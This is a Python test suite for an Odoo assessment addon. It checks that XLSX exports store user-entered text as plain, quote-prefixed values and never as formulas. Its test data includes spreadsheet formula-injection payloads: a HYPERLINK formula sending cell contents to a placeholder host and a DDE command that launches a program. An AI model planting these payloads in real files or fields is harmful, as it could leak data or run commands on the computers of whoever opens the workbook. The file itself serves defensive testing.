"""Nothing that somebody typed becomes a formula in a file that goes out: in no cell, heading or template."""

import ast
import base64
import io
import json
import re
import zipfile
from pathlib import Path

from odoo.addons.cadre_assessment.files import table, workbook
from odoo.addons.cadre_assessment.models.guard import guarded
from odoo.http import Request
from odoo.tests import HttpCase, TransactionCase, tagged

from tests.assessment.common import YearCase
from tests.ledger.builder import LedgerBuilder

ROOT = Path(__file__).parents[2]
HOSTILE = ('=HYPERLINK("http://x/"&A1)', "+cmd|' /C calc'!A0", "@SUM(1,1)", "-2+3", "{=1+1}", "'=1", "\t=1")


class Files:
    """What stands in the bytes of a workbook."""

    def assertPlain(self, content, *texts):
        """No formula in any sheet; these texts stand in it as they were typed, and are marked as texts."""
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            for name in archive.namelist():
                part = archive.read(name).decode("utf-8", "replace")
                if name.startswith("xl/worksheets/"):
                    self.assertIsNone(re.search(r"<f[ >/]", part), name)
                    self.assertNotIn("HYPERLINK", part)
                    self.assertNotIn("<hyperlink", part)
                self.assertNotIn("externalLink", name)
            self.assertIn('quotePrefix="1"', archive.read("xl/styles.xml").decode())
        book = workbook.Workbook(content)
        cells = {
            cell for sheet in book.sheets for _row, row in book.rows(sheet) for cell in row if isinstance(cell, str)
        }
        for text in texts:
            self.assertTrue(any(text in cell for cell in cells), f"{text!r} is not among {sorted(cells)[:60]}")


class TestReports(Files, YearCase):
    """Every workbook that our reports make."""

    @classmethod
    def setUpClass(cls):
        super().setUpClass()
        cls.give_year()
        cls.compute()
        paid = cls.cycle.assessment_ids.filtered("employee_id")[0]
        cls.bonus = guarded(cls.env["cadre.consequence"].sudo()).create(
            {"cycle_id": cls.cycle.id, "employee_id": paid.employee_id.id, "name": "奖", "action": "money", "amount": 1}
        )

    def rename(self):
        """Whatever has a name begins like a formula."""
        guarded(self.bonus).write({"name": HOSTILE[0], "person_name": HOSTILE[5]})
        for number, one in enumerate(self.cycle.assessment_ids):
            text = HOSTILE[number % len(HOSTILE)]
            values = {"name": f"{text}{number}", "post": text, "override_reason": text, "reason": text}
            guarded(one.sudo()).write(values)
        self.env.flush_all()
        for model, name in (
            ("cadre.cycle", "name"), ("cadre.scheme", "name"), ("hr.department", "name"),
            ("cadre.scheme.component", "name"), ("cadre.scale.grade", "name"), ("cadre.category", "name"),
        ):  # fmt: skip
            table_name, field = self.env[model]._table, self.env[model]._fields[name]
            value = "jsonb_build_object('en_US', %s, 'zh_CN', %s)" if field.translate else "COALESCE(%s, %s)"
            self.env.cr.execute(f'UPDATE "{table_name}" SET "{name}" = {value}', (HOSTILE[0], HOSTILE[0]))
        self.env.invalidate_all()

    def test_every_report(self):
        self.rename()
        Report = self.env["ir.actions.report"].with_user(self.officer_user)
        names = Report.sudo().search([("report_type", "=", "xlsx"), ("report_name", "=like", "cadre_%")])
        names = set(names.mapped("report_name"))
        # needs a ledger: below; a selection: test_selection_forms.py; a reserve, promotions: test_reserve_forms.py
        elsewhere = {
            f"cadre_assessment_reports.{name}_xlsx" for name in ("ledger", "selection", "reserve", "promotion")
        }
        self.assertGreater(len(names), 4)
        for name in sorted(names - elsewhere):
            with self.subTest(name):
                content, _kind = Report._render_xlsx(name, self.cycle.ids, {})
                self.assertPlain(content, HOSTILE[0])
                if "ranking" in name:
                    self.assertPlain(content, *HOSTILE)
                if "payroll" in name:
                    self.assertPlain(content, HOSTILE[5])

    def test_one_writer(self):
        """Nothing else in our addons writes into a workbook: what is not written cannot be a formula."""
        names = {
            "merge_range", "write_formula", "write_array_formula", "write_url", "write_rich_string", "write_string",
            "write_row", "write_column", "define_name", "set_header",
        }  # fmt: skip
        found = []
        for addon in ("cadre_assessment", "cadre_assessment_reports"):
            for path in (ROOT / addon).rglob("*.py"):
                for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
                    called = node.func if isinstance(node, ast.Call) else None
                    name = getattr(called, "attr", "")
                    of = getattr(getattr(called, "value", None), "id", "")
                    if name in names or (name == "Workbook" and of in ("openpyxl", "xlsxwriter")):
                        found.append(path.relative_to(ROOT).as_posix())
        self.assertEqual(set(found), {"cadre_assessment/files/written.py", "cadre_assessment/controllers/exports.py"})


class TestTemplates(Files, LedgerBuilder, TransactionCase):
    def test_ledger(self):
        """The form of the ledger, and the template that holds the scheme's tariff."""
        self.make_event("praise12", self.person, title=HOSTILE[0]).action_confirm()
        self.cycle.scheme_id.adjustment_ids.filtered(lambda line: line.computed == "none")[:1].sudo().with_context(
            install_mode=True
        ).write({"name": HOSTILE[1]})
        Report = self.env["ir.actions.report"].with_user(self.officer_user)
        content, _kind = Report._render_xlsx("cadre_assessment_reports.ledger_xlsx", self.cycle.ids, {})
        self.assertPlain(content, HOSTILE[0])
        wizard = self.env["cadre.ledger.import"].with_user(self.officer_user).create({"cycle_id": self.cycle.id})
        wizard.action_template()
        self.assertPlain(base64.b64decode(wizard.template), HOSTILE[1])

    def test_marks(self):
        """The table of marks: headings and names."""
        from odoo.addons.cadre_assessment.wizard.work import cadre_marks_import as marks

        class Column:
            key, label, low, high = 1, HOSTILE[0], 0, 20

        class Row:
            number, name, section, cells = HOSTILE[1], HOSTILE[2], HOSTILE[3], {1: (5, 12.5, True)}

        content = marks._workbook([Column], [Row])
        self.assertPlain(content, *HOSTILE[:4])
        self.assertEqual(table.read(content).rows[2][1], [*HOSTILE[1:4], 12.5])


@tagged("post_install", "-at_install")
class TestOdoosOwn(Files, HttpCase):
    """The exports of Odoo itself, of any list and any pivot table."""

    def test_list(self):
        department = self.env["hr.department"].create({"name": HOSTILE[0]})
        self.authenticate("admin", "admin")
        asked = {
            "model": "hr.department", "ids": department.ids, "domain": [], "groupby": [], "import_compat": False,
            "fields": [{"name": "name", "label": HOSTILE[1], "type": "char"}], "context": {},
        }  # fmt: skip
        content = self.url_open(
            "/web/export/xlsx", data={"data": json.dumps(asked), "csrf_token": Request.csrf_token(self)}
        ).content
        self.assertEqual(table.read(content).rows, [(1, [HOSTILE[1]]), (2, [HOSTILE[0]])])
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.assertNotIn("<f", archive.read("xl/worksheets/sheet1.xml").decode())

    def test_pivot(self):
        self.authenticate("admin", "admin")
        asked = {
            "title": "=[x]", "model": "hr.department", "measure_count": 1, "origin_count": 1,
            "col_group_headers": [[{"title": HOSTILE[0], "width": 1, "height": 1}]],
            "measure_headers": [{"title": HOSTILE[1], "width": 1, "height": 1, "is_bold": False}], "origin_headers": [],
            "rows": [{"title": HOSTILE[2], "indent": 0, "values": [{"value": HOSTILE[4]}]}],
        }  # fmt: skip
        content = self.url_open(
            "/web/pivot/export_xlsx", data={"data": json.dumps(asked), "csrf_token": Request.csrf_token(self)}
        ).content
        texts = {cell for _row, cells in table.read(content).rows for cell in cells if cell}
        self.assertEqual(texts, {f"'{HOSTILE[number]}" for number in (0, 1, 2, 4)})
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            self.assertNotIn("<f", archive.read("xl/worksheets/sheet1.xml").decode())
